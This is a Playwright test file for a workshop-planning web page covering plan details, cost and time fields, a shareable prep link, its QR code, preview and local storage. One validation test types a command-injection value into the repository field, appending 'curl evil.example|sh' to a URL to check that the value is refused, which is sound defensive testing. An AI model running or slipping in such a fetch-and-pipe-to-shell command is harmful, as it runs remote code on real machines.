/** The instructor's plan page: one store for details, cost and time; the prep link, its QR code and preview. */
import { expect, test, type Page } from '@playwright/test';
import { waitForHydrate } from './test-utils';
import { hydrateIslands } from './gates/visit.mjs';

const details = (page: Page) => page.locator('.plan-details');
const cost = (page: Page) => page.locator('.cost-calculator');
const linkText = (page: Page) => page.locator('.prep-link-url');

async function open(page: Page, url = '/plan/') {
	await page.goto(url);
	await waitForHydrate(page);
}

test('one field per value: attendees in the calculator, session in the estimator, platform in the details', async ({ page }) => {
	await open(page);
	await cost(page).getByLabel('Attendees').fill('12');
	await expect(page, 'the page URL keeps the attendees').toHaveURL(/attendees=12/);
	await page.locator('.tb').getByLabel('Session length').fill('240');
	await expect(page, 'and the session').toHaveURL(/session=240/);
	await details(page).getByLabel('Platform').selectOption('cocalc');
	await expect(page.locator('.tb-results').getByRole('heading').first(), 'the estimator follows the details').toHaveText('On CoCalc');
	await expect(page.getByLabel('Platform in use'), 'no second platform field').toHaveCount(0);
});

test('a detail chosen before the tools below have hydrated reaches their attributes, not only their text', async ({ page }) => {
	// The tools below the details hydrate on the first input (client:link), so they start from
	// stores that already left the defaults; hydration alone would keep the server's attributes.
	await page.goto('/plan/');
	// The details wake at the reader's first touch (client:link="intent"): here, the choice itself.
	await expect(page.locator('astro-island[component-export="PrepLink"][ssr]'), 'the prep link is not live, yet').toHaveCount(1);
	await details(page).getByLabel('Platform').selectOption('kaggle');
	await expect(page.locator('astro-island[component-export="PlanDetails"]:not([ssr])'), 'the details are live').toHaveCount(1);
	await waitForHydrate(page);
	const chosen = page.locator('.tb-table tr.tb-chosen');
	await expect(chosen, 'one row of the estimator’s table is marked as in use').toHaveCount(1);
	await expect(chosen, 'the chosen platform’s').toContainText('Kaggle');
	await expect(page.locator('.prep-link a.wr-button').first(), 'the prep link opens the chosen platform').toHaveAttribute(
		'href',
		/platform=kaggle/,
	);
});

test('the prep link carries the details and opens the matching prep page', async ({ page }) => {
	await open(page);
	await details(page).getByLabel('Workshop title').fill('Deep learning night');
	await details(page).getByLabel('Date').fill('2026-12-03');
	await details(page).getByLabel('Platform').selectOption('cocalc');
	await details(page).getByLabel('Repository URL').fill('https://github.com/octo/keras-lab');
	await details(page).getByLabel('Branch').fill('main');
	const text = linkText(page);
	await expect(text, 'the link has the title').toContainText('title=Deep+learning+night');
	await expect(text).toContainText('date=2026-12-03');
	await expect(text).toContainText('platform=cocalc');
	await expect(text).toContainText('repo=https%3A%2F%2Fgithub.com%2Focto%2Fkeras-lab');
	const href = (await text.innerText()).trim();
	expect(href.startsWith('http://127.0.0.1'), 'the link is absolute').toBe(true);
	await page.goto(href);
	await waitForHydrate(page);
	await expect(page.locator('h1 q')).toHaveText('Deep learning night');
	await expect(page.locator('pre code'), 'the CoCalc commands use the repo').toContainText([
		'git remote add origin https://github.com/octo/keras-lab',
	]);
	await expect(page.locator('pre code')).toContainText(['git pull origin main']);
});

test('a platform that cannot take the repository is said before the link goes out', async ({ page }) => {
	await open(page, '/plan/?platform=codespaces&repo=https://gitlab.com/octo-org/gitlab-only');
	const box = page.locator('.prep-link');
	await expect(box.locator('.wr-notice').first()).toContainText('Codespaces needs a GitHub repository');
	await expect(page.locator('.plan-steps').getByText('(ready)'), 'the step list does not call the link ready').toBeHidden();
	// On GitHub, or on a platform that takes any host, nothing is said.
	await page.locator('.plan-details').getByLabel('Platform').selectOption('binder');
	await expect(box.getByText('Codespaces needs a GitHub repository')).toHaveCount(0);
	await open(page, '/plan/?platform=codespaces&repo=https://github.com/octo-org/on-github');
	await expect(box.getByText('Codespaces needs a GitHub repository')).toHaveCount(0);
});

test('an invalid repository keeps the last valid link and says why', async ({ page }) => {
	await open(page);
	await details(page).getByLabel('Repository URL').fill('https://github.com/octo/lab');
	await expect(linkText(page)).toContainText('octo%2Flab');
	await details(page).getByLabel('Repository URL').fill('https://github.com/a/b;curl evil.example|sh');
	await expect(details(page).getByRole('alert'), 'a message beside the field').toBeVisible();
	await expect(linkText(page), 'the link keeps the last valid repo').toContainText('octo%2Flab');
	await expect(linkText(page)).not.toContainText('curl');
	await expect(details(page).getByLabel('Repository URL'), 'what was typed stays').toHaveValue(/curl/);
	const section = page.locator('.prep-link');
	await expect(section, 'the link is marked incomplete').toHaveAttribute('data-incomplete', '');
	const fix = section.locator('.wr-notice').getByRole('link', { name: 'Repository URL' });
	await expect(fix, 'the notice names the field').toBeVisible();
	await fix.click();
	await expect(details(page).getByLabel('Repository URL'), 'its link leads to the field').toBeFocused();
	await details(page).getByLabel('Repository URL').fill('github.com/octo/lab2');
	await expect(section, 'complete again').not.toHaveAttribute('data-incomplete', '');
	await expect(linkText(page), 'the bare host is read as https').toContainText('repo=https%3A%2F%2Fgithub.com%2Focto%2Flab2');
});

test('an edit writes its own section’s parameters, not the defaults of the sections nobody edited', async ({ page }) => {
	await open(page, '/plan/?title=Night%20lab');
	await details(page).getByLabel('Workshop title').fill('Morning lab');
	await expect(page).toHaveURL(/title=Morning\+lab/);
	expect([...new URL(page.url()).searchParams.keys()], 'the title alone').toEqual(['title']);
	await cost(page).getByLabel('Attendees').fill('31');
	await expect(page).toHaveURL(/attendees=31/);
	const keys = [...new URL(page.url()).searchParams.keys()];
	expect(keys, 'the calculator’s, as on its own page').toEqual(expect.arrayContaining(['title', 'attendees', 'months']));
	expect(keys, 'nothing of the estimator').not.toContain('session');
});

test('a refused value of the link leaves the address at the next edit, whichever section it is in', async ({ page }) => {
	await open(page, '/plan/?title=Night%20lab&attendees=0&time=09:00');
	await details(page).getByLabel('Workshop title').fill('Morning lab');
	await expect(page).toHaveURL(/title=Morning\+lab/);
	const query = new URL(page.url()).searchParams;
	expect(query.get('attendees'), 'the refused 0 is gone').not.toBe('0');
	expect(query.has('time'), 'a time with no date is dropped, as from a built link').toBe(false);
});

test('a refused platform is named once, by its one owner (the details)', async ({ page }) => {
	await open(page, '/plan/?platform=nowhere&session=90');
	await expect(page.locator('.wr-notice li').filter({ hasText: 'platform' }), 'one notice, not one per tool').toHaveCount(1);
	await details(page).getByLabel('Platform').selectOption('kaggle');
	await expect(page).toHaveURL(/[?&]platform=kaggle(&|$)/);
	expect(new URL(page.url()).searchParams.getAll('platform'), 'written once').toEqual(['kaggle']);
	await expect(page.locator('.tb-results').getByRole('heading').first(), 'the estimator still follows it').toHaveText(
		'On Kaggle Notebooks',
	);
});

test('the step bar keeps the prep link and its state in reach while scrolling', async ({ page }) => {
	await open(page);
	const bar = page.getByRole('navigation', { name: 'Plan steps' });
	const shown = () =>
		bar.getByRole('link').evaluateAll((links) => links.map((a) => (a as HTMLElement).innerText.replace(/\s+/g, ' ').trim()));
	await expect.poll(shown).toEqual(['Details', 'Cost', 'Time budget', 'Prep link (ready)']);
	await page.locator('#plan-time').scrollIntoViewIfNeeded();
	await expect(bar, 'still on screen far down the page').toBeInViewport();
	await details(page).getByLabel('Repository URL').fill('https://github.com/a/b c');
	const toLink = bar.getByRole('link', { name: /^Prep link/ });
	await expect
		.poll(() => toLink.innerText(), { message: 'says the link is incomplete' })
		.toMatch(/Prep link \(incomplete: fix the marked fields\)$/);
	await toLink.click();
	await expect(page.getByRole('heading', { name: 'Prep link for attendees' })).toBeInViewport();
});

/** The prep link `/plan/` shows for a link of canonical values, and the page opened with no query. */
async function canonicalLink(page: Page, canonical: string): Promise<string> {
	await open(page, `/plan/?${canonical}`);
	const expected = (await linkText(page).innerText()).trim();
	await open(page);
	return expected;
}

test('the unambiguous forms give the same prep link as the canonical values', async ({ page }) => {
	const expected = await canonicalLink(
		page,
		'repo=https://gitlab.com/acme/keras-101&branch=dev&notebook=notebooks/train.ipynb&date=2026-12-15',
	);
	await details(page).getByLabel('Date').fill('15/12/2026');
	await details(page).getByLabel('Repository URL').fill('gitlab.com/acme/keras-101/-/tree/dev');
	await expect(details(page).getByLabel('Branch'), 'the branch read from the address').toHaveValue('dev');
	await details(page).getByLabel('Notebook path in the repository').fill('/notebooks/train.ipynb');
	await expect(details(page).getByRole('alert'), 'no field is refused').toHaveCount(0);
	await expect(linkText(page)).toHaveText(expected);
});

test('a notebook page pasted as the repository fills the branch and the notebook, and the prep link spells them out', async ({ page }) => {
	const expected = await canonicalLink(page, 'repo=https://github.com/acme/keras-101&branch=main&notebook=notebooks/train.ipynb');
	await details(page).getByLabel('Repository URL').fill('https://github.com/acme/keras-101/blob/main/notebooks/train.ipynb');
	await expect(details(page).getByLabel('Branch'), 'the branch read from the address').toHaveValue('main');
	const notebook = details(page).getByLabel('Notebook path in the repository');
	await expect(notebook, 'the notebook read from the address').toHaveValue('notebooks/train.ipynb');
	await expect(linkText(page)).toHaveText(expected);
});

test('the QR code encodes the link and the copy button copies it', async ({ page, context }) => {
	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
	// Not `open`: its hydration helper scrolls to any island still waiting, which would bring the
	// code near the screen. A link with values wakes the prep-link box at once, where it is.
	await page.goto('/plan/?title=Lab&platform=kaggle');
	await expect(page.locator('astro-island[component-export="PrepLink"][ssr]'), 'the box is live').toHaveCount(0);
	const qr = page.getByRole('img', { name: 'QR code of the prep link' });
	await expect(qr, 'the encoder waits until the code is near the screen').toHaveCount(0);
	await page.locator('.prep-link-qr-box').scrollIntoViewIfNeeded();
	await expect(qr).toBeVisible();
	const path = await qr.locator('path').getAttribute('d');
	expect(path?.length ?? 0, 'the code has modules').toBeGreaterThan(200);
	await page.getByRole('button', { name: 'Copy prep link' }).click();
	await expect(page.getByText('Copied')).toBeVisible();
	const copied = await page.evaluate(() => navigator.clipboard.readText());
	expect(copied).toBe((await linkText(page).innerText()).trim());
	expect(copied).toContain('platform=kaggle');
	await details(page).getByLabel('Workshop title').fill('Lab two');
	await expect(qr.locator('path'), 'the QR code follows the link').not.toHaveAttribute('d', path ?? '');
});

test('the preview shows the prep page for the current link', async ({ page }) => {
	await open(page, '/plan/?title=Preview%20night&platform=colab');
	const frame = page.frameLocator('iframe[title="Preview of the prep page"]');
	await page.locator('iframe').scrollIntoViewIfNeeded();
	// The preview follows the link after a typing pause, then loads and hydrates a whole page.
	await expect(frame.locator('h1 q')).toHaveText('Preview night', { timeout: 15_000 });
});

test('a new plan started from a link, in a browser with no plan yet, is restored after leaving like any other', async ({ page }) => {
	await open(page, '/plan/?title=Their%20workshop');
	await page.getByRole('button', { name: 'Start a new plan' }).click();
	await expect(page).not.toHaveURL(/title=/);
	await waitForHydrate(page);
	await details(page).getByLabel('Workshop title').fill('Mine');
	await expect(page).toHaveURL(/title=Mine/);
	await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Compare' }).click();
	await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Plan' }).click();
	await expect(page, 'the one-visit flag was spent: the plan is restored').toHaveURL(/title=Mine/);
});

test('the instructor’s plan, agenda names included, survives a reload and leaving; a link’s values are never kept', async ({ page }) => {
	test.setTimeout(90_000); // six page loads
	await open(page);
	await details(page).getByLabel('Workshop title').fill('Keras 101');
	await cost(page).getByLabel('Attendees').fill('40');
	const agenda = page.locator('.tb-agenda');
	await agenda.getByLabel('Name of item 1').fill('Q&A, then coffee');
	await agenda.getByRole('button', { name: 'Add an agenda item' }).click();
	await expect(page).toHaveURL(/agenda=Q%26A%252C\+then\+coffee%3A15/);
	await page.reload();
	await waitForHydrate(page);
	await expect(details(page).getByLabel('Workshop title'), 'the title survives a reload').toHaveValue('Keras 101');
	await expect(agenda.getByLabel('Name of item 1'), 'the name survives a reload').toHaveValue('Q&A, then coffee');
	await expect(agenda.locator('li'), 'every item, not one lump').toHaveCount(5);
	// Leave through the navigation and come back: the plan is still there.
	await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Compare' }).click();
	await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Plan' }).click();
	await expect(page).toHaveURL(/title=Keras\+101/);
	await waitForHydrate(page);
	await expect(details(page).getByLabel('Workshop title')).toHaveValue('Keras 101');
	await expect(cost(page).getByLabel('Attendees')).toHaveValue('40');
	await expect(agenda.getByLabel('Name of item 1')).toHaveValue('Q&A, then coffee');
	// Someone else's link is shown, said to be a link, and not stored.
	await open(page, '/plan/?title=Their%20workshop');
	await expect(page.locator('[data-plan-from-link]')).toBeVisible();
	await expect(page.getByText('Your plan is kept in this browser'), 'no claim that it is kept').toBeHidden();
	await cost(page).getByLabel('Attendees').fill('77');
	await expect(page, 'written into the address, where a plan of their own would be stored').toHaveURL(/attendees=77/);
	expect(await page.evaluate(() => localStorage.getItem('wr:plan'))).not.toMatch(/Their|77/);
	// A fresh start from the link opens a blank plan, but the instructor's own plan stays stored.
	await page.getByRole('button', { name: 'Start a new plan' }).click();
	await expect(page).not.toHaveURL(/title=/);
	await waitForHydrate(page);
	await expect(details(page).getByLabel('Workshop title')).toHaveValue('');
	expect(await page.evaluate(() => localStorage.getItem('wr:plan')), 'their own plan is kept').toMatch(/title=Keras\+101/);
	// A fresh start from their own plan forgets it.
	await page.goto('/plan/');
	await expect(page).toHaveURL(/title=Keras\+101/);
	await waitForHydrate(page);
	await page.getByRole('button', { name: 'Start a new plan' }).click();
	await expect(page).not.toHaveURL(/title=/);
	await waitForHydrate(page);
	await expect(details(page).getByLabel('Workshop title')).toHaveValue('');
	expect(await page.evaluate(() => localStorage.getItem('wr:plan'))).toBeNull();
});

test('each group of fields on the plan page has a name of its own', async ({ page }) => {
	for (const path of ['/plan/', '/zh-cn/plan/']) {
		await page.goto(path);
		await hydrateIslands(page);
		const legends = (await page.locator('fieldset > legend').allTextContents()).map((text) => text.trim());
		expect(legends.length, `${path}: fieldsets`).toBeGreaterThan(2);
		expect(
			legends.filter((text, i) => legends.indexOf(text) !== i),
			`${path}: legends named twice`,
		).toEqual([]);
	}
});
